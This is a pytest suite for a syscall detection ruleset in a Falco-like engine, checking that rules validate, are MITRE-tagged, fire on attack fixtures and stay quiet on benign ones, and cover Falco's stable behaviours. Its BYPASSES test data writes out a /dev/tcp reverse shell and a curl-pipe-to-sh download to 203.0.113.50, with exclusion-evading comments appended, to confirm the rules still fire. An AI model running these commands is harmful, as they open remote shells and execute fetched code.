"""lanner's own syscall rules (rules/syscall_rules.yaml) on node-sensor documents.

- the file validates on its own and with the other bundled files, with no warnings (every
  rule is narrowed by evt.type, so the engine's index keeps it off unrelated events);
- every rule is documented, prioritised and tagged with MITRE ATT&CK;
- each attack document in tests/data/syscall fires the rule bundled_cases.yaml names,
  with the key fields in its output; each benign twin reaches the same rule (same event
  type) and fires nothing; the lists users append to silence what they should;
- an ordinary developer workload (builds, git, tests, apt) fires nothing;
- the behaviours of Falco's stable syscall ruleset all have a rule here.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from cli.main import main
from lanner import Engine, Event, builtin_sources, compile_rules, load_rules
from lanner.ruletests import load_rule_tests, rule_test_files, run_rule_tests

ROOT = Path(__file__).resolve().parent.parent
RULES_FILE = ROOT / "rules" / "syscall_rules.yaml"
DATA = Path(__file__).parent / "data" / "syscall"
WORKLOAD = DATA / "developer_workload.jsonl"
UPSTREAM = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "falco" / "falco_rules.yaml"

PRIORITIES = {"EMERGENCY", "ALERT", "CRITICAL", "ERROR", "WARNING", "NOTICE", "INFO", "DEBUG"}
TECHNIQUE = re.compile(r"^T\d{4}(\.\d{3})?$")

ITEMS = yaml.safe_load(RULES_FILE.read_text())
RULE_ITEMS = [item for item in ITEMS if "rule" in item]
RULE_NAMES = [item["rule"] for item in RULE_ITEMS]
CASES: list[dict[str, Any]] = yaml.safe_load((DATA / "bundled_cases.yaml").read_text())


def engine(*extra: Path) -> Engine:
    return compile_rules(load_rules([str(RULES_FILE), *map(str, extra)]), match="all")


@pytest.fixture(scope="module")
def rules() -> Engine:
    return engine()


def load(name: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((DATA / name).read_text())
    return doc


def fired(eng: Engine, doc: dict[str, Any]) -> list[str]:
    return [a.rule for a in eng.evaluate(doc, "syscall")]


# --- the rules file ----------------------------------------------------------------------------


def test_rules_file_validates_with_no_warnings() -> None:
    result = CliRunner().invoke(main, ["rules", "validate", "-r", str(RULES_FILE)])
    assert result.exit_code == 0, result.output
    assert f"syscall: {len(RULE_ITEMS)} rules" in result.output
    assert "0 warning(s)" in result.output
    assert [str(w) for w in engine().warnings] == []


def test_all_bundled_rules_validate_together_with_no_warnings() -> None:
    result = CliRunner().invoke(main, ["rules", "validate", "-r", str(ROOT / "rules")])
    assert result.exit_code == 0, result.output
    assert f"syscall: {len(RULE_ITEMS)} rules" in result.output
    assert "0 warning(s)" in result.output


def test_validate_would_report_a_rule_without_evt_type(tmp_path: Path) -> None:
    """The 'no warnings' checks above are meaningful: an unindexed rule is reported."""
    loose = tmp_path / "loose.yaml"
    loose.write_text(
        "- rule: Any cat\n  desc: any event of cat\n  condition: proc.name = cat\n"
        "  output: cat %proc.cmdline\n  priority: INFO\n  source: syscall\n"
    )
    result = CliRunner().invoke(
        main, ["rules", "validate", "-r", str(RULES_FILE), "-r", str(loose)]
    )
    assert "too many evt.type values" in result.output
    assert "0 warning(s)" not in result.output


@pytest.mark.parametrize("item", RULE_ITEMS, ids=RULE_NAMES)
def test_rule_is_documented_and_tagged(item: dict[str, Any]) -> None:
    for key in ("desc", "condition", "output", "priority", "source", "tags"):
        assert item.get(key), f"missing {key}"
    assert item["source"] == "syscall"
    assert item["priority"] in PRIORITIES
    assert len(item["desc"].split()) >= 20, "describe what the rule detects and why"
    assert "evt.type" in item["condition"] or any(
        f"lanner_{m}" in item["condition"]
        for m in ("program_started", "file_read_opened", "file_write_opened", "outbound_connect")
    )
    output = item["output"]
    assert "%proc.name" in output or "%proc.cmdline" in output
    assert "%container.id" in output
    tags = item["tags"]
    assert "host" in tags or "container" in tags
    assert any(t.startswith("mitre_") for t in tags), "a MITRE ATT&CK tactic tag"
    assert any(TECHNIQUE.match(t) for t in tags), "a MITRE ATT&CK technique tag"


def test_rule_names_are_unique_across_bundled_files() -> None:
    names = [r.name for r in load_rules([str(ROOT / "rules")]).rules]
    assert len(names) == len(set(names))
    assert set(RULE_NAMES) <= set(names)


def test_every_rule_has_an_attack_case() -> None:
    attacked = {w["rule"] for case in CASES for w in case.get("expect") or []}
    assert attacked == set(RULE_NAMES)


# --- attacks, twins, overrides -----------------------------------------------------------------


def case_id(i: int, case: dict[str, Any]) -> str:
    tag = "override" if case.get("overrides") else "case"
    return f"{i:02d}-{tag}-{case['event'].removesuffix('.json')}"


@pytest.mark.parametrize("case", CASES, ids=[case_id(i, c) for i, c in enumerate(CASES)])
def test_bundled_case(case: dict[str, Any], rules: Engine, tmp_path: Path) -> None:
    eng = rules
    if case.get("overrides"):
        extra = tmp_path / "site_rules.yaml"
        extra.write_text(yaml.safe_dump(case["overrides"], sort_keys=False))
        eng = engine(extra)
    alerts = eng.evaluate(load(case["event"]), "syscall")
    by_rule = {a.rule: a for a in alerts}
    expected = [w["rule"] for w in case.get("expect") or []]
    assert sorted(by_rule) == sorted(expected)
    for want in case.get("expect") or []:
        alert = by_rule[want["rule"]]
        assert alert.source == "syscall"
        assert "%" not in alert.output
        for field, value in want["output_fields"].items():
            assert str(alert.output_fields.get(field)) == str(value), field
            assert str(value) in alert.output
    for name in case.get("expect_not") or []:
        assert name not in by_rule
    assert eng.stats.rule_errors == 0, eng.stats.last_errors


TWINS = [c for c in CASES if ".benign_" in c["event"] and not c.get("overrides")]


@pytest.mark.parametrize("case", TWINS, ids=[c["event"] for c in TWINS])
def test_benign_twin_reaches_its_rule(case: dict[str, Any], rules: Engine) -> None:
    """A twin shares the attack's event type, so its silence is the condition's doing."""
    (rule,) = case["expect_not"]
    source = builtin_sources()["syscall"]
    candidates = {cr.rule.name for cr in rules.candidates(Event(load(case["event"]), source))}
    assert rule in candidates
    assert fired(rules, load(case["event"])) == []


def test_every_attack_document_has_a_benign_twin() -> None:
    files = sorted(p.name for p in DATA.glob("*.json"))
    behaviours = {name.split(".")[0] for name in files}
    twinned = {name.split(".")[0] for name in files if ".benign_" in name}
    assert behaviours == twinned
    assert len(behaviours) >= 30
    named = {c["event"] for c in CASES}
    assert set(files) == named, set(files) ^ named


def test_documents_are_what_make_docs_writes(tmp_path: Path) -> None:
    subprocess.run(
        [sys.executable, str(DATA / "make_docs.py"), str(tmp_path)],
        check=True,
        capture_output=True,
    )
    written = sorted(p.name for p in tmp_path.iterdir())
    committed = sorted(p.name for p in DATA.iterdir() if p.suffix in (".json", ".jsonl"))
    assert written == committed
    for name in written:
        assert (tmp_path / name).read_bytes() == (DATA / name).read_bytes(), name


@pytest.mark.parametrize(
    ("event", "rule"),
    [
        ("read_shadow.json", "Sensitive File Read By Untrusted Program"),
        ("log_truncated.json", "Log File Truncated"),
        ("sudoers_written.json", "Sudoers Configuration Written"),
        ("release_agent.json", "Cgroup Release Agent Written From Container"),
    ],
)
def test_open_rules_work_from_the_rendered_flags_alone(
    event: str, rule: str, rules: Engine
) -> None:
    """A sensor that forwards evt.arg.flags but not evt.is_open_* is still covered."""
    doc = load(event)
    for key in ("evt.is_open_read", "evt.is_open_write", "evt.is_open_create"):
        del doc[key]
    assert fired(rules, doc) == [rule]


@pytest.mark.parametrize(
    ("event", "change", "still"),
    [
        ("read_shadow.json", {"evt.rawres": -13, "evt.res": "EACCES"}, False),
        ("shell_from_service.json", {"evt.rawres": -2, "evt.res": "ENOENT"}, False),
        ("ssh_non_standard_port.json", {"evt.rawres": -115, "evt.res": "EINPROGRESS"}, True),
        ("path_traversal.json", {"evt.rawres": -2, "evt.res": "ENOENT"}, True),
    ],
)
def test_results_that_count(event: str, change: dict[str, Any], still: bool, rules: Engine) -> None:
    """Refused opens and failed execs are not reads or new programs; a non-blocking
    connect in progress is a connection; a refused traversal probe is still a probe."""
    doc = copy.deepcopy(load(event))
    doc.update(change)
    assert bool(fired(rules, doc)) is still


# --- rule tests (rules/tests/syscall) ----------------------------------------------------------

RULE_TESTS = ROOT / "rules" / "tests" / "syscall"


def test_rule_tests_pass_with_a_fires_and_a_quiet_example_per_rule() -> None:
    """What `lanner rules test` reports for these rules: every one PASS. Among the fires
    examples are the bypasses (text an attacker appends to satisfy an exclusion)."""
    ruleset = load_rules([str(RULES_FILE)])
    tests = load_rule_tests(rule_test_files(RULE_TESTS), ruleset)
    report = {r.rule: [r.status, *map(str, r.failures)] for r in run_rule_tests(ruleset, tests)}
    assert {rule: got for rule, got in report.items() if got != ["PASS"]} == {}
    assert sorted(report) == sorted(RULE_NAMES)


BYPASSES = [
    (
        "Shell Command Uses Dev TCP",
        {"proc.args": ["-c", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1 # /dev/tcp/127.0.0.1/"]},
    ),
    (
        "Shell Command Uses Dev TCP",
        {"proc.args": ["-c", "bash -i >& /dev/tcp/203.0.113.50/443 0>&1", "/dev/tcp/localhost/1"]},
    ),
    (
        "Shell Started By Network Service",
        {"proc.args": ["-c", "curl -s http://203.0.113.50/p | sh # wal-g pgbackrest"]},
    ),
    (
        "Shell Started By Network Service",
        {
            "proc.acmdline": [
                "sh -c ...",
                "postgres: 16/main: app x: archiver 10.0.7.21(51544) COPY",
                "/usr/lib/postgresql/16/bin/postgres",
                "/sbin/init",
            ]
        },
    ),
    (
        "Program Run From Memory File",
        {"proc.name": "runc", "proc.exepath": "memfd:runc_cloned:x (deleted)"},
    ),
]
BYPASS_BASE = {
    "Shell Command Uses Dev TCP": "dev_tcp_reverse_shell.json",
    "Shell Started By Network Service": "shell_from_service.postgres_copy_program.json",
    "Program Run From Memory File": "memfd_exec.json",
}


@pytest.mark.parametrize(
    ("rule", "change"), BYPASSES, ids=[f"{r}-{i}" for i, (r, _) in enumerate(BYPASSES)]
)
def test_appended_text_does_not_switch_a_rule_off(
    rule: str, change: dict[str, Any], rules: Engine
) -> None:
    doc = copy.deepcopy(load(BYPASS_BASE[rule]))
    doc.update(change)
    doc.pop("proc.cmdline", None)  # derived from proc.args, as the alert shows it
    assert rule in fired(rules, doc)


# --- ordinary work -----------------------------------------------------------------------------


def test_developer_workload_raises_nothing(rules: Engine) -> None:
    docs = [json.loads(line) for line in WORKLOAD.read_text().splitlines() if line.strip()]
    assert len(docs) >= 25
    assert {d["evt.type"] for d in docs} >= {"execve", "openat", "connect", "symlinkat", "dup2"}
    noisy = {
        f"{i} {d['evt.type']} {d['proc.cmdline']}": fired(rules, d) for i, d in enumerate(docs)
    }
    assert {k: v for k, v in noisy.items() if v} == {}
    assert rules.stats.rule_errors == 0, rules.stats.last_errors


def test_workload_documents_reach_rules(rules: Engine) -> None:
    """The workload is not trivially quiet: most of it meets at least one rule's index."""
    source = builtin_sources()["syscall"]
    docs = [json.loads(line) for line in WORKLOAD.read_text().splitlines() if line.strip()]
    reached = [d for d in docs if rules.candidates(Event(d, source))]
    assert len(reached) >= len(docs) - 2


# --- coverage of Falco's stable behaviours ---------------------------------------------------------

# Falco's stable syscall rules and the rule here that covers the same behaviour.
FALCO_EQUIVALENTS = {
    "Directory traversal monitored file read": "File Read Through Path Traversal",
    "Read sensitive file trusted after startup": "Sensitive File Read By Running Service",
    "Read sensitive file untrusted": "Sensitive File Read By Untrusted Program",
    "Run shell untrusted": "Shell Started By Network Service",
    "System user interactive": "Service Account Runs Interactive Command",
    "Terminal shell in container": "Interactive Shell In Container",
    "Contact K8S API Server From Container": "Kubernetes API Contacted From Container",
    "Netcat Remote Code Execution in Container": "Netcat Or Socat Executes Commands",
    "Search Private Keys or Passwords": "Search For Private Keys",
    "Clear Log Activities": "Log File Truncated",
    "Remove Bulk Data from Disk": "Data Wiping Tool Run",
    "Create Symlink Over Sensitive Files": "Symlink To Sensitive File",
    "Create Hardlink Over Sensitive Files": "Hardlink To Sensitive File",
    "Packet socket created in container": "Packet Socket Opened In Container",
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        "Standard Stream Redirected To Network Socket"
    ),
    "Linux Kernel Module Injection Detected": "Kernel Module Loaded From Container",
    "Debugfs Launched in Privileged Container": "Debugfs Started In Privileged Container",
    "Detect release_agent File Container Escapes": "Cgroup Release Agent Written From Container",
    "PTRACE attached to process": "Process Attaches With Ptrace",
    "PTRACE anti-debug attempt": "Program Blocks Debuggers With Ptrace",
    "Find AWS Credentials": "Search For Cloud Credentials",
    "Execution from /dev/shm": "Program Run From Dev Shm",
    "Drop and execute new binary in container": "Container Runs Binary Added After Start",
    "Disallowed SSH Connection Non Standard Port": "SSH Client To Non-Standard Port",
    "Fileless execution via memfd_create": "Program Run From Memory File",
}


def test_falco_stable_behaviours_are_covered() -> None:
    assert len(FALCO_EQUIVALENTS) == 25
    assert set(FALCO_EQUIVALENTS.values()) <= set(RULE_NAMES)
    # Our own names and prose: no upstream rule name is reused.
    assert not set(FALCO_EQUIVALENTS) & set(RULE_NAMES)


@pytest.mark.skipif(not UPSTREAM.is_file(), reason="upstream Falco corpus not available")
def test_equivalents_list_every_upstream_stable_rule() -> None:
    upstream = {i["rule"] for i in yaml.safe_load(UPSTREAM.read_text()) if "rule" in i}
    assert upstream == set(FALCO_EQUIVALENTS)
    names = {i.get("list") or i.get("macro") for i in yaml.safe_load(UPSTREAM.read_text())}
    ours = {i.get("list") or i.get("macro") for i in ITEMS} - {None}
    assert not ours & names, "list and macro names are our own"
